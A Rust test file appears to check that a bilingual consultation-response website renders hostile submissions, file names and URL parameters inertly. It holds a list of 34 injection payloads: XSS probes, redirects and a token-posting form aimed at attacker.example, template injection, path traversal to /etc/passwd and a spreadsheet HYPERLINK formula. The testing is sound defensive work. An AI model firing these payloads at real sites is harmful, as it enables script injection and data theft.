//! What respondents, senders of files and makers of addresses write is shown and never obeyed.

use std::fs;

use scraper::{Html, node::Node};

use crate::{project::Folder, site::Site};

/// What somebody may write to make a page do what they want.
const PAYLOADS: [&str; 34] = [
    "<script>alert(1)</script>",
    "\"><script>alert(1)</script>",
    "'><img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "</p></main></body><h1>Owned</h1>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</select><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<a href=\"javascript:alert(1)\">click</a>",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "<base href=\"//attacker.example/\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=//attacker.example\">",
    "<style>*{display:none}</style>",
    "<link rel=stylesheet href=//attacker.example/x.css>",
    "<form action=//attacker.example><input name=token>",
    "\" onmouseover=\"alert(1)\" x=\"",
    "' autofocus onfocus='alert(1)",
    "{{ frame.title }} {% include \"layout.html\" %}",
    "${7*7} #{7*7} <%= 7*7 %>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "\u{202e}gnp.exe\u{202c} right to left",
    "\u{2067}isolated\u{2069}\u{2066} and not closed",
    "null\u{0}byte and \u{7}bell and \u{1b}[31mred\u{1b}[0m",
    "../../../../etc/passwd",
    "%2e%2e%2f%2e%2e%2fetc%2fpasswd%00.html",
    "=HYPERLINK(\"http://attacker.example\",\"click\")",
];

/// A project in which names, answers, options, ids of sessions, file names, letters and the names of codes are hostile.
fn project() -> Folder {
    let quoted = |cell: &str| format!("\"{}\"", cell.replace('"', "\"\""));
    let mut forms = "ID,Name,Sent,Free?,Why\n".to_owned();
    let huge = "ŵ".repeat(20_000);
    for (number, payload) in PAYLOADS.into_iter().chain([huge.as_str()]).enumerate() {
        let cells = [
            format!("{number}{payload}"),
            payload.to_owned(),
            "05/01/2026 10:00".to_owned(),
            if number % 2 == 0 { "Yes".to_owned() } else { payload.to_owned() },
            format!("{payload} The roof of the hall is leaking and it should be mended before winter comes."),
        ];
        forms.push_str(&cells.map(|cell| quoted(&cell)).join(","));
        forms.push('\n');
    }
    let named = |payload: &str| payload.replace(['/', '\0'], "_");
    let letters: Vec<(String, String)> = PAYLOADS
        .into_iter()
        .map(|payload| {
            (
                format!("inbox/letters/{}.txt", named(payload)),
                format!("{payload}\n\nWe ask that halls be free. {payload}"),
            )
        })
        .collect();
    let mut files: Vec<(&str, &str)> = letters.iter().map(|(name, text)| (name.as_str(), text.as_str())).collect();
    files.push(("inbox/forms/export.csv", &forms));
    let folder = Folder::unrun(&files);
    let framework = folder.root.join("framework.toml");
    let settings = fs::read_to_string(&framework).expect("a framework");
    let hostile = settings.replace("\"Roofs\"", "\"Roofs <img src=x onerror=alert(1)>\"");
    fs::write(framework, hostile.replace("\"Toeau\"", "\"Toeau </li><script>alert(1)</script>\"")).expect("a file");
    folder.run();
    folder
}

/// Insists that nothing on a page comes from anybody but us: no element, attribute or address that we do not write.
#[track_caller]
fn is_inert(html: &str, address: &str) {
    const OURS: [&str; 58] = [
        "a", "article", "bdi", "body", "button", "caption", "code", "dd", "details", "div", "dl", "dt", "footer",
        "form", "h1", "h2", "h3", "head", "header", "html", "input", "label", "legend", "fieldset", "li", "link",
        "main", "mark", "meta", "nav", "ol", "option", "p", "path", "q", "rect", "section", "select", "span", "strong",
        "summary", "svg", "table", "tbody", "td", "textarea", "th", "thead", "title", "tr", "ul", "br", "h4", "tfoot",
        "abbr", "time", "em", "small",
    ];
    for node in Html::parse_document(html).tree.nodes() {
        match node.value() {
            Node::Element(element) => {
                let name = element.name();
                assert!(OURS.contains(&name), "{address}: <{name}>");
                for (attribute, value) in element.attrs() {
                    assert!(!attribute.starts_with("on") && attribute != "style", "{address}: <{name} {attribute}>");
                    assert_ne!(attribute, "http-equiv", "{address}");
                    if ["href", "src", "action", "formaction", "xlink:href"].contains(&attribute) {
                        let ours = ["/cy/", "/en/", "/assets/", "#"].iter().any(|start| value.starts_with(start));
                        assert!(ours && !value.starts_with("//"), "{address}: {attribute}={value}");
                    }
                    assert!(!value.contains('\0'), "{address}: {attribute}");
                }
            }
            Node::Text(text) => {
                let controls = |letter: char| letter.is_control() && !matches!(letter, '\n' | '\t' | '\r');
                assert!(!text.contains(controls), "{address}: {text:?}");
                let steers = |letter: char| matches!(letter, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}');
                if text.contains(steers) {
                    let apart = node.ancestors().any(|above| {
                        above.value().as_element().is_some_and(|e| e.name() == "bdi" || e.attr("dir").is_some())
                    });
                    assert!(apart, "{address}: a change of direction reaches beyond its text: {text:?}");
                }
            }
            Node::Comment(_) => panic!("{address}: a comment"),
            _ => {}
        }
    }
    assert_eq!(html.matches("<h1").count(), 1, "{address}");
    assert_eq!(html.matches("</html>").count(), 1, "{address}");
}

#[test]
fn what_is_hostile_in_the_record_is_inert_on_every_page() {
    let folder = project();
    let site = Site::of(&folder);
    let mut asked = 0;
    let mut check = |address: &str| {
        let answer = site.get(address);
        assert!(answer.status.is_success(), "{address}: {}", answer.status);
        is_inert(&answer.text(), address);
        asked += 1;
        answer.page()
    };
    for language in ["cy", "en"] {
        let mut address = format!("/{language}/register");
        loop {
            let page = check(&address);
            for submission in page.attributes("#list ~ .site-wide tbody th a", "href") {
                check(&submission);
            }
            match page.attributes(".govuk-pagination__next a", "href").pop() {
                Some(next) => address = next.trim_end_matches("#list").to_owned(),
                None => break,
            }
        }
        let mut address = format!("/{language}/search?everything=1");
        while let Some(next) = check(&address).attributes(".govuk-pagination__next a", "href").pop() {
            address = next;
        }
        for page in ["", "attention", "campaigns", "quarantine", "dashboard"] {
            for campaign in check(&format!("/{language}/{page}")).attributes("a[href*='/campaigns/']", "href") {
                check(&campaign);
            }
        }
    }
    assert!(asked > 2 * PAYLOADS.len(), "{asked} pages were looked at");
}

#[test]
fn what_is_hostile_in_an_address_is_inert_too() {
    let site = Site::demonstration();
    let escaped = |payload: &str| form_urlencoded::byte_serialize(payload.as_bytes()).collect::<String>();
    for payload in PAYLOADS {
        let escaped = escaped(payload);
        for field in ["q", "language", "question", "kind", "source", "status", "code", "since", "until", "sort", "page"]
        {
            let address = format!("/cy/search?{field}={escaped}");
            let answer = site.get(&address);
            assert!([200, 400].contains(&answer.status.as_u16()), "{address}: {}", answer.status);
            is_inert(&answer.text(), &address);
        }
        for path in ["submissions", "passages", "campaigns", "register", "nowhere"] {
            let address = format!("/en/{path}/{escaped}");
            let answer = site.get(&address).is(404);
            is_inert(&answer.text(), &address);
        }
        for field in ["status", "source", "written", "form", "page"] {
            let address = format!("/en/register?{field}={escaped}");
            is_inert(&site.get(&address).text(), &address);
        }
        let address = format!("/en/submissions/x?done={escaped}");
        is_inert(&site.get(&address).text(), &address);
    }
}
